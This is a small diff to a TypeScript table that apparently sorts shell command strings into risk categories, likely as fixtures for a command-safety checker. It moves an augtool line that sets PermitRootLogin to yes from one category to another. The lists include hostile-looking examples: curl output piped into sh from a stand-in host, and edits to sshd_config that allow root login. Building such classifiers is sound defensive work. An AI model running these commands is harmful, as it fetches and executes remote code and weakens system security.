@@ -23,7 +23,6 @@ const lines: Readonly<Partial<Record<Code, readonly string[]>>> = {
     'curl -s https://x.example | foo -o run.sh; sh run.sh',
     'curl -o /dev/stdout https://x.example | sh',
     'foo set /etc/ssh/sshd_config PermitRootLogin yes',
-    'augtool -s set /files/etc/ssh/sshd_config/PermitRootLogin yes',
   ],
   Q2: [
     'foo ~/.bashrc',
@@ -47,6 +46,7 @@ const lines: Readonly<Partial<Record<Code, readonly string[]>>> = {
     'rsync -a dotfiles/ ~/',
     "yq -i '.a = 1' /etc/x.yaml",
     'augtool set /files/etc/hosts/1/canonical x',
+    'augtool -s set /files/etc/ssh/sshd_config/PermitRootLogin yes',
   ],
   Q1: [
     'foo -o ~/x a',
